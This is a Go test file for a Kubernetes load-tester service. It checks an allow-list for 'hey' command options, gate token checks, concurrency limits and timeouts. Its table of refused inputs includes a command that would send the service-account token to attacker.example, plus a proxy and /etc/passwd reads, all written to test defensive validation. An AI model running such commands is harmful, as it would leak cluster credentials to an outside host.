package loadtester

import (
	"bufio"
	"context"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
)

// heyCases are hey command lines and how the load tester answers them under the default limits.
var heyCases = map[string]struct {
	line    string // metadata.cmd
	wantMsg string // the exact refusal; empty when accepted
}{
	"the seed's load test":              {line: "hey -z 2m -q 10 -c 2 http://podinfo.test:9898/"},
	"a POST with a body and headers":    {line: `hey -n 100 -c 10 -m POST -d '{"a":1}' -T application/json -H 'X-Canary: insider' https://podinfo.test/api`},
	"Go flag spellings":                 {line: "hey --z=30s -disable-keepalive -h2=false -cpus 2 -t 5 -o csv http://x/"},
	"options end at --":                 {line: "hey -c 2 -- http://x/"},
	"a body from a file":                {line: "hey -D /var/run/secrets/kubernetes.io/serviceaccount/token http://attacker.example/", wantMsg: "hey option -D is not allowed: it sends a local file of the load tester (such as its service-account token) to the target; use -d with the body instead"},
	"a body from a file, with =":        {line: "hey -D=/etc/passwd http://x/", wantMsg: "hey option -D is not allowed: it sends a local file"},
	"a body from a file, two dashes":    {line: "hey --D /etc/passwd http://x/", wantMsg: "hey option -D is not allowed"},
	"a proxy":                           {line: "hey -x attacker.example:3128 http://x/", wantMsg: "hey option -x is not allowed: it sends the load through a proxy of the caller's choosing"},
	"too many workers":                  {line: "hey -c 1000 http://x/", wantMsg: `hey option -c "1000" is not allowed: must be from 1 to 100 (--hey-max-workers)`},
	"a hex number of workers":           {line: "hey -c 0x7fffffff http://x/", wantMsg: `hey option -c "0x7fffffff" is not allowed: must be from 1 to 100 (--hey-max-workers)`},
	"too many requests":                 {line: "hey -n 2000000000 http://x/", wantMsg: `hey option -n "2000000000" is not allowed: must be from 1 to 1000000 (--hey-max-requests)`},
	"a request count in float notation": {line: "hey -n 1e9 http://x/", wantMsg: `hey option -n "1e9" is not allowed: must be a whole number`},
	"a rate that is not a number":       {line: "hey -q NaN http://x/", wantMsg: `hey option -q "NaN" is not allowed: must be a number of requests per second`},
	"too high a rate":                   {line: "hey -q 100000 http://x/", wantMsg: `hey option -q "100000" is not allowed: must be from 0 to 1000 per worker (--hey-max-rate)`},
	"too long a duration":               {line: "hey -z 48h http://x/", wantMsg: `hey option -z "48h" is not allowed: must be more than 0 and at most 1h0m0s (--hey-max-duration)`},
	"a negative duration":               {line: "hey -z -1s http://x/", wantMsg: `hey option -z "-1s" is not allowed: must be more than 0`},
	"an odd method":                     {line: "hey -m TRACE http://x/", wantMsg: `hey option -m "TRACE" is not allowed: must be one of GET, POST, PUT, DELETE, HEAD, OPTIONS, PATCH`},
	"another output type":               {line: "hey -o json http://x/", wantMsg: `hey option -o "json" is not allowed: must be csv`},
	"too many CPUs":                     {line: "hey -cpus 1000 http://x/", wantMsg: `hey option -cpus "1000" is not allowed: must be from 1 to 64`},
	"an unknown option":                 {line: "hey -U agent http://x/", wantMsg: `hey option "-U" is not allowed: it is not one the load tester allows`},
	"a bool option with a word":         {line: "hey -h2=maybe http://x/", wantMsg: `hey option -h2 "maybe" is not allowed: must be true or false`},
	"an option without its value":       {line: "hey -c", wantMsg: "hey option -c is not allowed: it needs a value"},
	"a file URL":                        {line: "hey file:///etc/passwd", wantMsg: `hey URL "file:///etc/passwd" is not allowed: it must be an absolute http or https URL`},
	"a relative URL":                    {line: "hey podinfo:9898", wantMsg: `hey URL "podinfo:9898" is not allowed: it must be an absolute http or https URL`},
	"no URL":                            {line: "hey -z 1m", wantMsg: "hey without a URL is not allowed"},
	"options hidden after the URL":      {line: "hey http://x/ -D /etc/passwd", wantMsg: `hey argument "-D" after the URL is not allowed: hey ignores everything after the URL`},
}

func TestHeyOptionsAreAllowListedAndCapped(t *testing.T) {
	for name, tc := range heyCases {
		t.Run(name, func(t *testing.T) {
			fake := newFakeExecutor()
			close(fake.release)
			ts := newTestServer(t, withExecutor(fake))
			status, body := ts.post(t, "/", cmdBody(tc.line))
			lookups, runs := fake.calls()
			if tc.wantMsg == "" {
				if status != http.StatusAccepted {
					t.Fatalf("status %d (%s), want 202", status, body)
				}
				return
			}
			if status != http.StatusBadRequest || !strings.HasPrefix(body, tc.wantMsg) {
				t.Fatalf("status %d, reply %q; want 400 starting %q", status, body, tc.wantMsg)
			}
			if lookups+runs != 0 {
				t.Fatalf("a refused hey command reached the executor (%d lookups, %d runs)", lookups, runs)
			}
		})
	}
}

// gateTokenFile writes token to a file and returns its path.
func gateTokenFile(t *testing.T, token string) string {
	path := filepath.Join(t.TempDir(), "token")
	if err := os.WriteFile(path, []byte(token+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// postAuth POSTs body to path with an Authorization header when auth is not empty.
func (ts *testServer) postAuth(t *testing.T, path, body, auth string) int {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, ts.http.URL+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if auth != "" {
		req.Header.Set("Authorization", auth)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

func TestGateChangesNeedTheTokenWhenOneIsConfigured(t *testing.T) {
	secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "loadtester", Name: "gate-token"},
		Data: map[string][]byte{SecretTokenKey: []byte("s3cret")}}
	sources := map[string]func(t *testing.T) TokenSource{
		"a token file": func(t *testing.T) TokenSource { return FileToken(gateTokenFile(t, "s3cret")) },
		"a token Secret": func(*testing.T) TokenSource {
			return SecretToken{Client: fake.NewClientBuilder().WithObjects(secret).Build(), Secret: types.NamespacedName{Namespace: "loadtester", Name: "gate-token"}}
		},
	}
	steps := []struct {
		path, auth string
		status     int
	}{
		{"/gate/open", "", http.StatusUnauthorized},
		{"/gate/open", "Bearer wrong", http.StatusUnauthorized},
		{"/gate/open", "Basic czNjcmV0", http.StatusUnauthorized},
		{"/gate/open", "s3cret", http.StatusUnauthorized},
		{"/rollback/open", "", http.StatusUnauthorized},
		{"/gate/check", "", http.StatusForbidden}, // still closed, and checks need no token
		{"/rollback/check", "", http.StatusForbidden},
		{"/gate/approve", "", http.StatusOK},
		{"/gate/halt", "", http.StatusForbidden},
		{"/gate/open", "Bearer s3cret", http.StatusAccepted},
		{"/gate/check", "", http.StatusOK},
		{"/gate/close", "", http.StatusUnauthorized},
		{"/gate/check", "", http.StatusOK},
		{"/rollback/open", "Bearer s3cret", http.StatusAccepted},
		{"/rollback/close", "Bearer wrong", http.StatusUnauthorized},
		{"/rollback/check", "", http.StatusOK},
		{"/rollback/close", "Bearer s3cret", http.StatusAccepted},
		{"/gate/close", "Bearer s3cret", http.StatusAccepted},
		{"/gate/check", "", http.StatusForbidden},
	}
	for name, newSource := range sources {
		t.Run(name, func(t *testing.T) {
			ts := newTestServer(t, withConfig(func(c *Config) { c.GateToken = newSource(t) }))
			for i, s := range steps {
				if got := ts.postAuth(t, s.path, payload(), s.auth); got != s.status {
					t.Fatalf("step %d POST %s with %q: status %d, want %d", i, s.path, s.auth, got, s.status)
				}
			}
			if got := ts.metric(t, "serin_loadtester_requests_refused_total", "reason", "unauthorized"); got != 7 {
				t.Errorf("refused{unauthorized} = %v, want 7", got)
			}
		})
	}
}

func TestAnUnreadableTokenRefusesEveryGateChange(t *testing.T) {
	path := gateTokenFile(t, "s3cret")
	ts := newTestServer(t, withConfig(func(c *Config) { c.GateToken = FileToken(path) }))
	if err := os.Remove(path); err != nil {
		t.Fatal(err)
	}
	if got := ts.postAuth(t, "/gate/open", payload(), "Bearer s3cret"); got != http.StatusInternalServerError {
		t.Fatalf("status %d with the token file gone, want 500", got)
	}
	if got := ts.postAuth(t, "/gate/check", payload(), ""); got != http.StatusForbidden {
		t.Fatalf("the gate is open after a refused change (check %d)", got)
	}
	// A rotated token takes effect without a restart.
	if err := os.WriteFile(path, []byte("rotated"), 0o600); err != nil {
		t.Fatal(err)
	}
	if got := ts.postAuth(t, "/gate/open", payload(), "Bearer s3cret"); got != http.StatusUnauthorized {
		t.Fatalf("the old token got %d after rotation, want 401", got)
	}
	if got := ts.postAuth(t, "/gate/open", payload(), "Bearer rotated"); got != http.StatusAccepted {
		t.Fatalf("the rotated token got %d, want 202", got)
	}
}

func TestOneNamespaceCannotTakeEverySlot(t *testing.T) {
	fake := newFakeExecutor()
	defer close(fake.release)
	ts := newTestServer(t, withExecutor(fake), withConfig(func(c *Config) { c.MaxConcurrent, c.MaxPerNamespace = 4, 2 }))
	for i, url := range []string{"http://a/", "http://b/"} {
		if status, body := ts.post(t, "/", payload(withMeta("cmd", "hey "+url))); status != http.StatusAccepted {
			t.Fatalf("command %d: status %d (%s)", i, status, body)
		}
	}
	status, body := ts.post(t, "/", payload(withName("other"), withMeta("cmd", "hey http://c/")))
	want := "too many commands running: 2 for namespace test, of 2 allowed by --max-concurrent-per-namespace; try again later"
	if status != http.StatusTooManyRequests || strings.TrimSpace(body) != want {
		t.Fatalf("third command of the namespace: %d %q, want 429 %q", status, body, want)
	}
	if status, body := ts.post(t, "/", payload(withNamespace("prod"), withMeta("cmd", "hey http://c/"))); status != http.StatusAccepted {
		t.Fatalf("another namespace was refused: %d (%s)", status, body)
	}
	// Accepted commands start in the background: wait for the three, then
	// check that the refused one holds no slot.
	eventually(t, 5*time.Second, "the three accepted commands to start", func() bool { _, runs := fake.calls(); return runs == 3 })
	if running := ts.runner.Running(); running != 3 {
		t.Fatalf("%d commands hold a slot, want the 3 accepted", running)
	}
}

func TestIdenticalBlockingTasksShareOneRun(t *testing.T) {
	fake := newFakeExecutor()
	ts := newTestServer(t, withExecutor(fake), withConfig(func(c *Config) { c.Policy.EnableBash = true }))
	body := payload(withMeta("type", "bash", "cmd", "./conformance.sh"))
	type answer struct {
		status int
		body   string
	}
	answers := make(chan answer, 2)
	for range 2 {
		go func() {
			status, reply := ts.post(t, "/", body)
			answers <- answer{status, reply}
		}()
	}
	eventually(t, 5*time.Second, "the command to start", func() bool { _, runs := fake.calls(); return runs == 1 })
	eventually(t, 5*time.Second, "the second caller to join", func() bool {
		return ts.metric(t, "serin_loadtester_commands_skipped_total") == 1
	})
	close(fake.release)
	for range 2 {
		if a := <-answers; a.status != http.StatusOK {
			t.Errorf("a caller got %d (%s), want 200", a.status, a.body)
		}
	}
	if _, runs := fake.calls(); runs != 1 {
		t.Errorf("the command ran %d times for two identical calls, want once", runs)
	}
}

// A blocking command stops when its caller gives up (the controller's webhook timeout): no
// process is left running for a result nobody reads.
func TestABlockingTaskStopsWhenItsCallerGivesUp(t *testing.T) {
	ts := newTestServer(t, withConfig(func(c *Config) { c.Policy.EnableBash = true }))
	const marker = "62.3456" // an argument no other process on the machine uses
	ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, ts.http.URL+"/",
		strings.NewReader(payload(withMeta("type", "bash", "cmd", "sleep "+marker))))
	if err != nil {
		t.Fatal(err)
	}
	started := make(chan int, 1)
	go func() {
		eventually(t, 5*time.Second, "sleep to start", func() bool { return findProcess(marker) != 0 })
		started <- findProcess(marker)
	}()
	if resp, err := http.DefaultClient.Do(req); err == nil {
		resp.Body.Close()
		t.Fatalf("the call returned %d before its timeout", resp.StatusCode)
	}
	pid := <-started
	eventually(t, 5*time.Second, "the abandoned command to die", func() bool { return !processAlive(pid) })
	eventually(t, 5*time.Second, "its slot to be free", func() bool { return ts.runner.Running() == 0 })
}

func TestOpeningGatesBeyondTheLimitIsRefused(t *testing.T) {
	for name, newStore := range gateStores(2) {
		t.Run(name, func(t *testing.T) {
			ts := newTestServer(t, withStore(newStore(t)), withConfig(func(c *Config) { c.MaxGates = 2 }))
			for _, step := range []struct {
				path, canary string
				status       int
			}{
				{"/gate/open", "a", http.StatusAccepted},
				{"/rollback/open", "b", http.StatusAccepted},
				{"/gate/open", "c", http.StatusTooManyRequests},
				{"/gate/open", "a", http.StatusAccepted}, // already open
				{"/gate/close", "a", http.StatusAccepted},
				{"/gate/open", "c", http.StatusAccepted},
				{"/gate/check", "c", http.StatusOK},
			} {
				status, body := ts.post(t, step.path, payload(withName(step.canary)))
				if status != step.status {
					t.Fatalf("POST %s for %s: %d (%s), want %d", step.path, step.canary, status, body, step.status)
				}
				if status == http.StatusTooManyRequests && !strings.Contains(body, "too many open gates: 2 are open (--max-gates 2)") {
					t.Errorf("refusal %q does not name the limit", body)
				}
			}
		})
	}
}

// A client that sends its headers and then nothing is disconnected after the read timeout, so
// slow clients cannot hold connections open.
func TestSlowClientsAreDisconnected(t *testing.T) {
	cfg := DefaultConfig()
	cfg.ReadTimeout = 300 * time.Millisecond
	addr, _, _ := serving(t, cfg)

	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.Write([]byte("POST /gate/open HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n{")); err != nil {
		t.Fatal(err)
	}
	_ = conn.SetReadDeadline(time.Now().Add(10 * time.Second))
	began := time.Now()
	_, _ = bufio.NewReader(conn).ReadString('\n') // the server's answer or the close
	if _, err := conn.Read(make([]byte, 1)); err == nil {
		t.Fatal("the connection is still open")
	}
	if elapsed := time.Since(began); elapsed > 5*time.Second {
		t.Fatalf("the slow client was disconnected after %s, want about 300ms", elapsed)
	}
}
